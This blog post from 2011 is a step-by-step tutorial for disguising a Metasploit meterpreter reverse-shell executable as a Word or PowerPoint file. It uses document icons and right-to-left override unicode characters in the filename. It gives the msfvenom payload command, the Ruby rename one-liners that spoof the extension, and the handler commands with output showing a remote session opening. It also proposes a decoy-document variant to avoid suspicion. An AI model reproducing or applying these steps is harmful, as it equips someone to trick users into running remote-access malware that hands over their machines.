Monday, October 24, 2011

Social engineering with unicode filenames

There have been several reports on special unicode characters being used to hide the real extension of a file - most times to make an execute file look like a document or a picture file, tricking the user into starting the executable.

Although the attack is not new, I could not find much information about good ways to create such files - so here is how I created a meterpreter payload and made it look like a normal file on Windows Vista/7.During the process, I accessed the files both from Linux (metasploit, ruby) and Windows (Resource Hacker) using a Virtual Box machine with a shared folder. It should be possible to do everything on Windows only, but I did not test it.

[update 2011-11-04]
I just tested the examples with Windows 7 + Ruby 1.9.2. As a reader reported in the comments, the original examples do not work. Ruby 1.9.2 has improved unicode support, so we can use the \uXXXX codes directly - I added an alternative version of the commands.

First, create a payload:

./msfvenom -p windows/meterpreter/reverse_tcp -e x86/shikata_ga_nai -i 1 -f exe LHOST= LPORT=4444 >/tmp/demo.exe

To make the file look like our target format, we need to give the executable file an icon. Copy demo.exe to demo_doc.exe and demo_ppt.exe to create a Word and a Powerpoint template.

Now we need to find the correct icons for these filetypes. Start Resource Hacker ( and open the Word executable holding the icons ("c:\program files\microsoft office\office14\wordicon.exe" on my system). Find a suitable icon group and note the corresponding values (resource name = 201 and language = 1033 in my case). Resource Hacker showed some error messages on my system, but it worked nonetheless.

Now open your payload (demo_doc.exe) file in Resource Hacker. Click "Action -> Add a new Resource".  Open the file holding the icon (wordicon.exe in mycase), set resource type to "ICON" and enter the collected values.
If you use an executable that already has an icon (e.g. when executing msfvenom with calc.exe as a template), use "Action -> Replace Icon".

Click "Add Resource" and save the file.

Repeat the process for the Powerpoint file. I used the file powerpnt.exe, resource name = 1301, language = 1033.

This is what you should see in Windows Explorer:

Theoretically, you could first rename the files before editing the icon resources. However, in my tests Resource hacker did not work correctly with the unicode filenames, so I recommend doing it in the described order.

The most used character for these tricks is "right-to-left override" (RTLO), in unicode: U+202E.
First, we need to convert this into an UTF-8 representation. You can do this by hand, like describedhere:, or you can just look it up:

So, U+202E converts to 0xE280AE.
With a simple RTLO, we can reverse the right side of the filename, so "cod.exe" looks like "exe.doc". We are quite limited here, as the name of the file needs to end on exe.

One good example I found was a file displayed as "SexyAlexe.ppt". The real name of this file is "SexyAl\xe2\x80\xaetpp.exe".

I used ruby to execute the rename commands, as the special characters sometimes cause problems if you try to execute them in a normal shell.

# Original version, tested on Linux with Ruby 1.8.7
ruby -e 'File.rename("demo_ppt.exe", "SexyAl\xe2\x80\xaetpp.exe")'

# Alternative version, tested on Windows 7 with Ruby 1.9.2
ruby -e 'File.rename("demo_ppt.exe", "SexyAl\u202Etpp.exe")'

In Windows Explorer:

For more advanced file names, we need a second unicode character: U+202D = 0xE280AD, this one is called left-to-right override (LTRO).

Using this, the real file extension of the file can be placed anywhere in the displayed filename. We now also use .scr as extension to have more options.# [RTLO]cod.yrammus_evituc[LTRO]2011.exe

# Original version, tested on Linux with Ruby 1.8.7
ruby -e 'File.rename("demo_doc.exe", "\xe2\x80\xaecod.yrammus_evituc\xe2\x80\xad2011.exe")'

# Alternative version, tested on Windows 7 with Ruby 1.9.2
ruby -e 'File.rename("demo_doc.exe", "\u202Ecod.yrammus_evituc\u202D2011.exe")'

# [RTLO]tpp.stohsnee[LTRO]funny.scr

# Original version, tested on Linux with Ruby 1.8.7
ruby -e 'File.rename("demo_ppt.exe", "\xe2\x80\xaetpp.stohsnee\xe2\x80\xadfunny.scr")'# Alternative version, tested on Windows 7 with Ruby 1.9.2
ruby -e 'File.rename("demo_ppt.exe", "\u202Etpp.stohsnee\u202Dfunny.scr")'

The filename is created in two parts, first writing from right to left and then from left to right, prepending the characters left of all those already written.


Open a metasploit console on the attacking machine:

msf > use exploit/multi/handler
msf  exploit(handler) > set PAYLOAD windows/meterpreter/reverse_tcp
msf  exploit(handler) > set LHOST
msf  exploit(handler) > exploit
Now, open one of the created files on the target machine and you should get a meterpreter shell:
[*] Started reverse handler on
[*] Starting the payload handler...[*] Sending stage (752128 bytes) to
[*] Meterpreter session 1 opened ( -> at Sun Oct 23 19:42:30 +0200 2011
Of course, no document will be opened and some users might get suspicious. An advanced version of this attack would use an executable file that extracts an embedded document, opens it and thenexecutes the reverse shell.